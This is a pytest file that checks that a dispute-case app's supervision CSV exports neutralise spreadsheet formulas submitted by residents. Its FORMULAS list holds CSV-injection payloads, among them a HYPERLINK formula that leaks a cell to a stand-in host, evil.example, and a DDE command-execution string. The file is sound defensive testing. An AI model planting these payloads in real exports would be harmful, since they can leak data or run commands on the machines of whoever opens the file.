"""Data that leaves the app: every export neutralises cells a spreadsheet would run as a formula (CSV
injection), whoever typed them — here an anonymous resident through a door plate."""
import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import select

from app.extensions import db, limiter
from app.models import Address, DisputeCase
from app.services.time_limits.timers import fire_due_timers
from tests import factories as f

pytestmark = pytest.mark.sqlite  # cells neutralised in Python; the exports' queries: test_dashboard_pages

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


@pytest.fixture(autouse=True)
def _fresh_limits():
    limiter.reset()
    yield
    limiter.reset()


def reported_and_carded(client, world, clock, title: str) -> DisputeCase:
    """A resident reports through the door plate; the case is triaged and goes yellow three days on."""
    plate = db.session.scalar(select(Address.plate_token).where(Address.text == "和平路12号"))
    response = client.post(f"/r/{plate}", data={"title": title, "description": "楼上漏水", "name": "王五",
                                               "phone": "13900000001", "consent": "y"})
    assert response.status_code == 201
    case = db.session.scalars(select(DisputeCase).where(DisputeCase.source == "resident_report")).one()
    f.step(world, case, "triage_case", f.TRIAGE_L2)
    clock.shift(timedelta(days=3, minutes=1))
    fire_due_timers()
    return f.reload(case)


@pytest.mark.parametrize("title", FORMULAS)
def test_the_supervision_csv_keeps_a_residents_formula_as_text(client, auth, world, clock, title):
    case = reported_and_carded(client, world, clock, title)
    auth.login("supervisor")
    for kind in ("weekly", "reminder"):
        response = client.get(f"/supervision/{kind}.csv")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
        [row] = [row for row in rows[1:] if row[1] == case.number]
        assert row[2] == "'" + case.title
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
